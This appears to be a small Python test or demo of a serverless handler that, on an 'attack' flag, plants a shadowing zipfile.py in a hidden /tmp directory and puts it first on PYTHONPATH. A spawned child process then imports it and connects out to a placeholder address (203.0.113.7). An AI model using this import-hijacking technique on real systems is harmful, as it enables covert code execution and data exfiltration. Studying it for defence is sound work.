# Harmless: the module sends one word to an address that exists on the sandbox's loopback device only.
import os
import subprocess
import sys
import time

MODULE = "import socket\nsocket.create_connection(('203.0.113.7', 443)).send(b'shadowed')\n"


def handler(event, context):
    if event.get("attack"):
        os.makedirs("/tmp/.cache/python")
        with open("/tmp/.cache/python/zipfile.py", "w") as module:
            module.write(MODULE)
        os.environ["PYTHONPATH"] = "/tmp/.cache/python:" + os.environ.get("PYTHONPATH", "")
    # What this function always does: it hands a job to another process.
    if event.get("job"):
        subprocess.Popen([sys.executable, "-c", "import zipfile, time; time.sleep(2)"])
        time.sleep(0.3)
    return "ok"
